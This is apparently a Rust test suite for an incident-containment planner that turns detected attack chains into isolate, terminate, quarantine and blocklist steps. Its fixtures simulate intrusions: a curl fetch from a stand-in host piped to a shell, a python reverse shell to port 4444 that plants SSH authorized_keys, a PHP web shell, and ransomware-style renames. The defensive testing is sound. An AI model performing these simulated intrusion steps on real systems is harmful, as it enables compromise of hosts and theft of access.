//! The plan that stops an incident.

use std::collections::BTreeSet;

use proptest::prelude::*;
use quell_catalog::ActionKind;
use quell_incident::cut::{self, OnFailure, Plan};
use quell_incident::{Chain, Setting, View};
use quell_wire::activity::{Connection, Deed, FileDeed, Format, Image, Script, Severity, Source, Verdict};

use crate::scene::{Scene, hash, setting};
use crate::stories;
use crate::view::any_chain;

fn plan(scenes: &[&Scene], severity: Severity, setting: &Setting) -> Plan {
    let views: Vec<_> = scenes.iter().map(|scene| View::of(&scene.chain)).collect();
    cut::plan(&views, severity, setting)
}

/// Each step in a line: `file.quarantine /tmp/x`, with a `-` before it where it is not ticked.
fn lines(plan: &Plan) -> Vec<String> {
    plan.steps
        .iter()
        .map(|step| format!("{}{} {}", if step.ticked { "" } else { "-" }, step.action.id(), step.object))
        .collect()
}

#[test]
fn a_dropper_is_cut_where_it_hurts() {
    let (one, two) = (stories::dropper(), stories::by_cron());
    let plan = plan(&[&one, &two], Severity::High, &setting());
    assert_eq!(
        lines(&plan),
        [
            "endpoint.isolate web-1",
            "file.prevent_run /tmp/x",
            "process.terminate x (102)",
            "process.terminate sh (200)",
            "file.quarantine /etc/cron.d/x",
            "file.quarantine /tmp/x",
            &format!("blocklist.add {}", "11".repeat(32)),
            "blocklist.add 203.0.113.9, 203.0.113.66",
            "blocklist.add drop.evil.example",
        ]
    );
    insta::assert_json_snapshot!(plan);
}

#[test]
fn a_persons_shell_and_the_daemon_above_it_are_never_ended() {
    let mut scene = Scene::new("e1", "c", 90);
    scene.run(90, 0, "/usr/lib/openssh/sshd-session");
    scene.run(91, 90, "/usr/lib/openssh/sshd-session");
    scene.run(100, 91, "/usr/bin/bash -i");
    scene.run(101, 100, "/bin/sh -c /tmp/x");
    let run = scene.run(102, 101, "/tmp/x");
    scene.detect(run, Source::Behaviour, Severity::High, "x", &[]);
    let shell = plan(&[&scene], Severity::High, &setting());
    assert!(lines(&shell).contains(&"process.terminate sh (101)".to_owned()), "{:?}", lines(&shell));
    // What the daemon itself did is no reason to end it.
    let touched = scene.create(91, "/tmp/y", 0x12, Format::Elf);
    scene.detect(touched, Source::Yara, Severity::High, "y", &[]);
    let both = plan(&[&scene], Severity::High, &setting());
    let ended: Vec<_> =
        both.steps.iter().filter(|step| step.action == ActionKind::ProcessTerminate).collect();
    assert_eq!(ended.len(), 1, "{:?}", lines(&both));
    assert!(lines(&both).contains(&"file.quarantine /tmp/y".to_owned()));
}

#[test]
fn what_was_carried_is_ended_from_the_top_and_orphans_for_themselves() {
    let mut scene = Scene::new("e1", "c", 100);
    scene.run(100, 0, "/usr/bin/bash -i");
    scene.script(101, 100, "/bin/sh", "/tmp/install.sh");
    scene.run(102, 101, "/usr/bin/setsid /tmp/x");
    let run = scene.run(103, 102, "/tmp/x");
    scene.run(104, 103, "/usr/bin/sleep 1000");
    scene.detect(run, Source::Behaviour, Severity::Medium, "x", &[]);
    let all = plan(&[&scene], Severity::Medium, &setting());
    assert!(lines(&all).contains(&"process.terminate sh (101)".to_owned()), "{:?}", lines(&all));
    assert!(!lines(&all)[0].starts_with("endpoint.isolate"), "nothing reaches out, and it is not grave");
    assert!(all.left.iter().any(|told| told.code == "there_before" && told.text.contains("/tmp/install.sh")));
    // Its parent is gone: it belongs to init by now, and the end of the script does not reach it.
    scene.end(102);
    let apart = plan(&[&scene], Severity::Medium, &setting());
    let ended: Vec<_> =
        lines(&apart).into_iter().filter(|line| line.starts_with("process.terminate")).collect();
    assert_eq!(ended, ["process.terminate sh (101)", "process.terminate x (103)"]);
}

#[test]
fn a_shell_at_the_end_of_a_pipe_is_no_person() {
    let mut scene = Scene::new("e1", "c", 100);
    scene.run(100, 0, "/usr/bin/bash -i");
    scene.run(101, 100, "/usr/bin/curl http://203.0.113.9/i");
    scene.run(102, 100, "/usr/bin/sh");
    scene.process(102).image.terminal = "pts/0".into();
    let run = scene.run(103, 102, "/tmp/x");
    scene.detect(run, Source::Behaviour, Severity::Medium, "x", &[]);
    let typed = plan(&[&scene], Severity::Medium, &setting());
    assert!(lines(&typed).contains(&"process.terminate x (103)".to_owned()), "{:?}", lines(&typed));
    scene.process(102).started_at_us = scene.process(101).started_at_us + 900;
    let piped = plan(&[&scene], Severity::Medium, &setting());
    assert!(lines(&piped).contains(&"process.terminate sh (102)".to_owned()), "{:?}", lines(&piped));
    // Without a terminal nobody types.
    scene.process(102).started_at_us += 1_500_000;
    scene.process(102).image.terminal.clear();
    let alone = plan(&[&scene], Severity::Medium, &setting());
    assert!(lines(&alone).contains(&"process.terminate sh (102)".to_owned()), "{:?}", lines(&alone));
}

#[test]
fn many_of_one_content_are_ended_by_one_command() {
    let mut scene = Scene::new("e1", "c", 100);
    scene.run(100, 0, "/usr/bin/bash -i");
    for pid in 101..131 {
        let run = scene.run(pid, 100, "/tmp/bomb");
        if pid == 101 {
            scene.detect(run, Source::BlockList, Severity::High, "bomb", &[]);
        }
    }
    let plan = plan(&[&scene], Severity::High, &setting());
    let ended: Vec<_> =
        plan.steps.iter().filter(|step| step.action == ActionKind::ProcessTerminate).collect();
    assert_eq!(ended.len(), 1, "{:?}", lines(&plan));
    assert_eq!(ended[0].params["sha256"], "11".repeat(32));
    assert_eq!(ended[0].blast.processes, 30);
}

#[test]
fn nothing_of_the_system_is_taken_for_the_intruders() {
    let mut scene = Scene::new("e1", "c", 100);
    scene.run(100, 0, "/usr/bin/bash -i");
    let run = scene.run(101, 100, "/usr/bin/python3 -c import-pty");
    scene.connect(101, "203.0.113.66", 4444);
    scene.write(101, "/usr/bin/ls", 0x44, Format::Elf);
    scene.write(101, "/home/ann/.bashrc", 0x45, Format::Unspecified);
    scene.rename(101, "/tmp/keys", "/root/.ssh/authorized_keys", 0x46, Format::Unspecified);
    scene.create(101, "/usr/bin/lsx", 0x47, Format::Elf);
    scene.detect(run, Source::Behaviour, Severity::High, "Reverse shell", &["T1059.006"]);
    let plan = plan(&[&scene], Severity::High, &setting());
    assert_eq!(
        lines(&plan),
        [
            "endpoint.isolate web-1",
            "-file.prevent_run /usr/bin/ls",
            "-file.prevent_run /usr/bin/lsx",
            "process.terminate python3 (101)",
            "-file.quarantine /root/.ssh/authorized_keys",
            "-file.quarantine /usr/bin/lsx",
            "blocklist.add 203.0.113.66",
            &format!("-blocklist.add {}, {}", "44".repeat(32), "47".repeat(32)),
        ]
        .into_iter()
        .map(str::to_owned)
        .collect::<Vec<_>>()
        .tap_sorted_tail(6)
    );
    let manual: Vec<_> = plan.manual.iter().map(|manual| manual.text.as_str()).collect();
    assert_eq!(manual.len(), 3, "{manual:?}");
    assert!(manual.iter().any(|text| text.contains("/home/ann/.bashrc") && text.contains("keep the rest")));
    assert!(
        manual.iter().any(|text| text.contains("/usr/bin/ls") && text.contains("install its package anew"))
    );
}

#[test]
fn addresses_of_the_own_network_and_of_everybody_are_left() {
    let mut scene = Scene::new("e1", "c", 100);
    let run = scene.run(100, 0, "/tmp/x");
    scene.ask(100, "raw.githubusercontent.com", [203, 0, 113, 5]);
    for address in ["10.0.0.9", "127.0.0.1", "203.0.113.250", "10.0.0.5", "203.0.113.5", "203.0.113.6"] {
        scene.connect(100, address, 443);
    }
    scene.ask(100, "quell.example.", [203, 0, 113, 250]);
    scene.detect(run, Source::Yara, Severity::Critical, "x", &[]);
    let plan = plan(&[&scene], Severity::Critical, &setting());
    let listed: Vec<_> = lines(&plan).into_iter().filter(|line| line.contains("blocklist.add")).collect();
    assert_eq!(
        listed[1..],
        [
            "blocklist.add 203.0.113.6",
            "-blocklist.add 203.0.113.5",
            "-blocklist.add raw.githubusercontent.com"
        ]
    );
    let left: BTreeSet<_> = plan.left.iter().map(|told| told.code).collect();
    assert_eq!(left, BTreeSet::from(["kept", "own_address", "private"]));
}

#[test]
fn a_copy_of_a_packages_program_is_taken_by_its_name_and_not_by_its_content() {
    let mut scene = Scene::new("e1", "c", 100);
    scene.run(100, 0, "/usr/bin/bash -i");
    scene.run(101, 100, "/usr/bin/cp /bin/sleep /tmp/kworker");
    scene.create(101, "/tmp/kworker", 0x66, Format::Elf);
    scene.end(101);
    let mut last = 0;
    for pid in 102..106 {
        last = scene.run(pid, 100, "/tmp/kworker 60");
        scene.process(pid).image.sha256 = hash(0x66);
        if let Some(Deed::Start(image)) = &mut scene.chain.activities.last_mut().unwrap().deed {
            image.sha256 = hash(0x66);
        }
    }
    scene.detect(last, Source::Behaviour, Severity::Medium, "Kernel thread of /tmp", &["T1036.005"]);
    // Nobody told that it is one: it is forbidden everywhere, and ended by its content.
    let unknown = plan(&[&scene], Severity::Medium, &setting());
    assert!(lines(&unknown).iter().any(|line| line.contains("prevent_run")));
    let mut knowing = setting();
    knowing.packaged.insert("66".repeat(32));
    let known = plan(&[&scene], Severity::Medium, &knowing);
    let mut wanted: Vec<_> = (102..106).map(|pid| format!("process.terminate kworker ({pid})")).collect();
    wanted.push("file.quarantine /tmp/kworker".into());
    assert_eq!(lines(&known), wanted);
    assert_eq!(known.steps[4].after, [1, 2, 3, 4], "whoever runs it would write it again");
    assert_eq!(known.left.iter().map(|told| told.code).collect::<Vec<_>>(), ["packaged"]);
    // The chain itself tells of the program that was copied.
    let mut telling = scene;
    telling.run(110, 100, "/bin/sleep 1");
    telling.process(110).image.sha256 = hash(0x66);
    assert_eq!(lines(&plan(&[&telling], Severity::Medium, &setting())), wanted);
    // Or of what was written by the intruder, that a package has the same.
    telling.chain.processes.retain(|process| process.key.pid != 110);
    telling.chain.activities.retain(|activity| activity.process.pid != 110);
    for activity in &mut telling.chain.activities {
        if let Some(Deed::FileCreate(file)) = &mut activity.deed {
            file.copy_of = "coreutils 9.1-1".into();
        }
    }
    assert_eq!(lines(&plan(&[&telling], Severity::Medium, &setting())), wanted);
}

#[test]
fn a_web_shell_is_moved_away_whoever_wrote_it() {
    for writer in ["/bin/sh -c id", "/usr/sbin/php-fpm"] {
        let mut scene = Scene::new("e1", "c", 100);
        scene.run(100, 0, "/usr/lib/systemd/systemd");
        scene.run(101, 100, writer);
        let made = scene.create(101, "/var/www/upload/logo.php", 0x12, Format::Unspecified);
        scene.detect(made, Source::Behaviour, Severity::High, "A script among uploads", &["T1505.003"]);
        let plan = plan(&[&scene], Severity::High, &setting());
        let moved = "file.quarantine /var/www/upload/logo.php".to_owned();
        assert!(lines(&plan).contains(&moved), "{writer}: {:?}", lines(&plan));
        assert!(plan.manual.iter().all(|manual| !manual.text.contains("logo.php")), "{writer}");
    }
}

#[test]
fn what_was_there_before_is_left_to_a_person_whatever_name_it_got() {
    let mut scene = Scene::new("e1", "c", 100);
    scene.run(100, 0, "/usr/lib/systemd/systemd");
    scene.run(101, 100, "/tmp/x");
    let document = |number: u8| format!("/home/eva/{number}.docx");
    let mut last = 0;
    for number in 0..20 {
        let (from, to) = (document(number), document(number) + ".locked");
        last = scene.rename(101, &from, &to, 0x30 + number, Format::Unspecified);
    }
    scene.detect(last, Source::Behaviour, Severity::Critical, "Files get other names", &["T1486"]);
    let taken = plan(&[&scene], Severity::Critical, &setting());
    assert!(lines(&taken).iter().all(|line| !line.contains("docx")), "{:?}", lines(&taken));
    assert!(taken.manual.iter().any(|manual| manual.text.contains("19.docx.locked")), "{:?}", taken.manual);
    // An edit in place.
    let mut scene = Scene::new("e1", "c", 100);
    scene.run(100, 0, "/usr/lib/systemd/systemd");
    scene.run(101, 100, "/usr/bin/sed -i s/a/b/ player.php");
    let path = "/var/www/html/media/player.php";
    let edited = scene.rename(101, "/var/www/html/media/sedAbC", path, 0x12, Format::Unspecified);
    scene.detect(edited, Source::Behaviour, Severity::High, "A script among uploads", &["T1505.003"]);
    let edit = plan(&[&scene], Severity::High, &setting());
    assert!(lines(&edit).iter().all(|line| !line.contains("player")), "{:?}", lines(&edit));
    assert!(edit.manual.iter().any(|manual| manual.text.contains(path)), "{:?}", edit.manual);
}

#[test]
fn a_file_that_was_only_named_as_a_script_is_left_to_a_person() {
    let mut scene = Scene::new("e1", "c", 100);
    let named = scene.script(100, 0, "/usr/bin/bash", "/home/alice/thesis.odt");
    scene.detect(named, Source::Behaviour, Severity::High, "A shell of a temporary folder", &["T1059.004"]);
    let lines = lines(&plan(&[&scene], Severity::High, &setting()));
    let of_file: Vec<_> =
        lines.iter().filter(|line| line.contains("thesis") || line.contains(&"22".repeat(32))).collect();
    assert!(!of_file.is_empty() && of_file.iter().all(|line| line.starts_with('-')), "{lines:?}");
}

#[test]
fn the_name_of_our_own_programs_protects_nobody_else() {
    let mut scene = Scene::new("e1", "c", 100);
    let evil = scene.run(100, 0, "/opt/quell-evil/quell");
    scene.connect(100, "203.0.113.9", 443);
    scene.detect(evil, Source::BlockList, Severity::Critical, "A listed address", &["T1071"]);
    let lines = lines(&plan(&[&scene], Severity::Critical, &setting()));
    assert!(lines.contains(&"endpoint.isolate web-1".to_owned()), "{lines:?}");
    assert!(lines.contains(&"process.terminate quell (100)".to_owned()), "{lines:?}");
}

#[test]
fn what_an_endpoint_cannot_do_is_said() {
    let mut setting = setting();
    let endpoint = setting.endpoints.get_mut("e1").unwrap();
    endpoint.is_isolated = true;
    endpoint.actions.remove("file.prevent_run");
    endpoint.boot_id = Some("boot-2".into());
    let plan = plan(&[&stories::dropper()], Severity::High, &setting);
    assert!(
        !lines(&plan)
            .iter()
            .any(|line| line.contains("isolate") || line.contains("terminate") || line.contains("prevent"))
    );
    let left: Vec<_> = plan.left.iter().map(|told| told.code).collect();
    assert_eq!(left, ["isolated", "other_boot"]);
    let missing: Vec<_> = plan.not_available.iter().map(|told| told.code).collect();
    assert_eq!(missing, ["not_capable", "account.disable"]);
}

#[test]
fn what_was_asked_for_accuses_nobody() {
    let mut scene = Scene::new("e1", "c", 100);
    let run = scene.run(100, 0, "/tmp/x");
    scene.detect(run, Source::Asked, Severity::Informational, "asked", &[]);
    assert_eq!(plan(&[&scene], Severity::Informational, &setting()), Plan::default());
}

#[test]
fn a_service_that_was_misused_is_proposed_and_not_ticked() {
    let mut scene = Scene::new("e1", "c", 100);
    let run = scene.run(100, 0, "/opt/shop/server");
    scene.process(100).from_before = true;
    scene.process(100).image.sha256 = hash(0x77);
    scene.connect(100, "203.0.113.66", 4444);
    scene.detect(run, Source::Behaviour, Severity::High, "Service connects out", &[]).verdict =
        Verdict::NotPrevented.into();
    let plan = plan(&[&scene], Severity::High, &setting());
    let told = lines(&plan);
    assert!(told.iter().any(|line| line.starts_with("-process.terminate")), "{told:?}");
    assert!(
        told.iter().any(|line| line.starts_with("-file.prevent_run"))
            && !told.iter().any(|line| line.starts_with("file."))
    );
}

/// Any deed of a few files, programs and ends, so that they meet.
pub fn any_deed() -> impl Strategy<Value = Option<Deed>> {
    let path = || {
        prop_oneof![
            Just("/tmp/x"),
            Just("/tmp/y"),
            Just("/usr/bin/z"),
            Just("/etc/cron.d/j"),
            Just("/root/.bashrc"),
            Just("")
        ]
    };
    let content = || prop_oneof![Just(Vec::new()), Just(hash(1)), Just(hash(2))];
    let file = (path(), path(), content(), 0_i32..3).prop_map(|(path, from, sha256, format)| FileDeed {
        path: path.into(),
        from: from.into(),
        sha256,
        format,
        ..FileDeed::default()
    });
    let image = (path(), proptest::option::of(path()), content(), any::<bool>()).prop_map(
        |(path, script, sha256, nameless)| Image {
            path: path.into(),
            script: script.map(|path| Script { path: path.into(), sha256: sha256.clone() }),
            sha256,
            nameless,
            ..Image::default()
        },
    );
    let end = (0_u8..5).prop_map(|last| Connection {
        remote: vec![203, 0, 113, last],
        remote_port: 80,
        ..Connection::default()
    });
    prop_oneof![
        Just(None),
        image.prop_map(|image| Some(Deed::Start(image))),
        (file, 0_u8..3).prop_map(|(file, kind)| Some(match kind {
            0 => Deed::FileCreate(file),
            1 => Deed::FileWrite(file),
            _ => Deed::FileRename(file),
        })),
        end.prop_map(|end| Some(Deed::Connect(end))),
    ]
}

fn sound(plan: &Plan, chains: &[Chain]) -> Result<(), TestCaseError> {
    const ORDER: [ActionKind; 5] = [
        ActionKind::EndpointIsolate,
        ActionKind::FilePreventRun,
        ActionKind::ProcessTerminate,
        ActionKind::FileQuarantine,
        ActionKind::BlocklistAdd,
    ];
    let phase = |action: ActionKind| ORDER.iter().position(|known| *known == action);
    prop_assert!(plan.steps.iter().all(|step| phase(step.action).is_some()));
    prop_assert!(plan.steps.is_sorted_by_key(|step| phase(step.action)));
    let mut seen = BTreeSet::new();
    for (index, step) in plan.steps.iter().enumerate() {
        prop_assert_eq!(usize::try_from(step.number).unwrap(), index + 1);
        prop_assert!(step.after.iter().all(|before| *before < step.number));
        prop_assert!(
            seen.insert((step.endpoint.clone(), step.action, step.params.to_string())),
            "no step twice: {step:?}"
        );
        prop_assert_eq!(step.on_failure == OnFailure::Stop, step.action == ActionKind::ProcessTerminate);
        prop_assert!((step.action.declared().check_params)(&step.params).is_ok());
        for because in &step.because {
            let chain = chains.iter().find(|chain| chain.id == because.chain).unwrap();
            prop_assert!(
                because.activity == 0
                    || chain.activities.iter().any(|own| own.id == because.activity)
                    || chain.detections.iter().any(|hit| hit.activity == because.activity)
            );
        }
        for text in [&step.reason, &step.object, &step.blast.text] {
            prop_assert!(quell_catalog::is_clean_text(text), "{text:?}");
        }
    }
    Ok(())
}

proptest! {
    #[test]
    fn any_plan_is_sound(mut chains in proptest::collection::vec(any_chain(), 1..3), severity in 1_i32..6) {
        for (number, chain) in chains.iter_mut().enumerate() {
            chain.id = format!("c{number}");
        }
        let views: Vec<_> = chains.iter().map(View::of).collect();
        let severity = Severity::try_from(severity).unwrap();
        let setting = setting();
        let plan = cut::plan(&views, severity, &setting);
        sound(&plan, &chains)?;
        prop_assert_eq!(&cut::plan(&views, severity, &setting), &plan, "the same again");
        // Whoever was detected, runs and may be ended, is ended: itself, or by what started it.
        for view in &views {
            for (_, hit) in view.detections().filter(|(_, hit)| hit.source() != Source::Asked) {
                let Some(place) = view.entry(hit.activity).and_then(|entry| entry.node) else { continue };
                let node = &view.nodes[place];
                let is_daemon = node.process.is_some_and(|process| process.image.path.ends_with(b"sshd"));
                let is_over = |key| views.iter().filter_map(|view| view.node(key)).any(quell_incident::chain::Node::has_ended);
                if is_over(node.key) || is_daemon || node.key.pid < 2 {
                    continue;
                }
                let line = view.ancestry(place);
                let alive = line.iter().take_while(|above| !is_over(view.nodes[**above].key));
                let keys: Vec<_> = alive.map(|above| view.nodes[*above].key).collect();
                let is_ended = plan.steps.iter().filter(|step| step.action == ActionKind::ProcessTerminate).any(|step| {
                    step.params["sha256"].is_string()
                        || keys.iter().any(|key| step.params["pid"] == key.pid && step.params["start_time"] == key.start)
                });
                prop_assert!(is_ended, "{:?} of {:?}", node.key, lines(&plan));
            }
        }
        // Nothing is ended that no chain has.
        for step in plan.steps.iter().filter(|step| step.params["pid"].is_number()) {
            let is_known = views.iter().any(|view| view.nodes.iter().any(|node| step.params["pid"] == node.key.pid && step.params["start_time"] == node.key.start));
            prop_assert!(is_known);
        }
    }
}

/// The tail of a list in any order: contents are sorted by their value, and addresses come after them.
trait TapSorted {
    fn tap_sorted_tail(self, from: usize) -> Self;
}

impl TapSorted for Vec<String> {
    fn tap_sorted_tail(mut self, from: usize) -> Self {
        self[from..].sort_by_key(|line| !line.starts_with('-'));
        self
    }
}
